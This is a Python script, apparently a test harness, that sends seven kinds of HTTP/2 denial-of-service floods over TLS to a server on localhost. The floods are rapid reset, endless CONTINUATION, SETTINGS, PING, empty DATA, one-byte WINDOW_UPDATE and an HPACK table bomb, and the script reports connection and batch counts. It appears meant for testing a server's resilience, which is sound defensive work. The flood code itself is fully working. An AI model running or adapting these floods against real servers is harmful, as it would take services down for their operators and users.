#!/usr/bin/env python3
"""Floods over HTTP/2 from raw sockets, as attackers send them.

`floods.py KIND PORT HOST CA SECONDS` opens a connection with TLS, sends as much of the kind as it
is let, and begins anew when it is cut off; prints how many frames and connections that were.
"""

import itertools
import json
import os
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
BATCH = 500


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A field that goes into no table, lengths below 127."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def number(value, bits, first):
    """An integer of HPACK behind the bits of its first byte."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = [first | most], value - most
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


class Flood:
    """What one connection of each kind sends, batch by batch."""

    def __init__(self, host):
        # GET, https, / from the static table, and the authority.
        self.head = b"\x82\x87\x84" + literal(b":authority", host.encode())
        self.post = b"\x83\x87\x84" + literal(b":authority", host.encode())

    def rapid_reset(self):
        """Requests that are given up at once."""
        code = struct.pack(">I", 8)
        for first in itertools.count(1, 2 * BATCH):
            yield b"".join(
                frame(HEADERS, END_STREAM | END_HEADERS, stream, self.head)
                + frame(RST_STREAM, 0, stream, code)
                for stream in range(first, first + 2 * BATCH, 2))

    def continuation(self):
        """A head that does not end."""
        yield frame(HEADERS, END_STREAM, 1, self.head)
        piece = literal(b"x-more", b"a" * 100)
        while True:
            yield frame(CONTINUATION, 0, 1, piece) * BATCH

    def settings(self):
        """Settings that change nothing, and want an answer each."""
        while True:
            yield frame(SETTINGS, 0, 0) * BATCH

    def ping(self):
        while True:
            yield frame(PING, 0, 0, b"12345678") * BATCH

    def empty_data(self):
        """A body that does not come nearer to its end."""
        yield frame(HEADERS, END_HEADERS, 1, self.post)
        while True:
            yield frame(DATA, 0, 1) * BATCH

    def window_update(self):
        """Windows that grow by one byte."""
        yield frame(HEADERS, END_HEADERS, 1, self.post)
        one = struct.pack(">I", 1)
        while True:
            yield (frame(WINDOW_UPDATE, 0, 0, one) + frame(WINDOW_UPDATE, 0, 1, one)) * (BATCH // 2)

    def hpack_bomb(self):
        """A long field goes into the table once, and is asked for by one byte again and again."""
        value = b"a" * 3900
        entry = b"\x40\x06x-bomb" + number(len(value), 7, 0) + value
        for stream in itertools.count(1, 2):
            block = self.head + (entry if stream == 1 else b"") + b"\xbe" * 8000
            yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block)


KINDS = ("rapid_reset", "continuation", "settings", "ping", "empty_data", "window_update",
         "hpack_bomb")


def connect(port, host, ca):
    context = ssl.create_default_context(cafile=ca)
    context.set_alpn_protocols(["h2"])
    plain = socket.create_connection(("127.0.0.1", port), timeout=1)
    sock = context.wrap_socket(plain, server_hostname=host)
    # Settings of a usual client, and a large window.
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(
        WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)))
    return sock


def flood(kind, port, host, ca, seconds):
    """Nothing is read: who must answer has to keep the answers, or to stop."""
    said = {"connections": 0, "batches": 0, "cut": 0, "stalled": 0}
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        said["connections"] += 1
        try:
            sock = connect(port, host, ca)
        except OSError:
            said["cut"] += 1
            continue
        try:
            for batch in getattr(Flood(host), kind)():
                if time.monotonic() > end:
                    break
                sock.sendall(batch)
                said["batches"] += 1
        except TimeoutError:
            # The other side reads no more.
            said["stalled"] += 1
        except OSError:
            said["cut"] += 1
        sock.close()
    return said


def main():
    # The load of the well-behaved goes first.
    os.nice(10)
    kind, port, host, ca, seconds = sys.argv[1:]
    print(json.dumps(flood(kind, int(port), host, ca, float(seconds))))


if __name__ == "__main__":
    main()
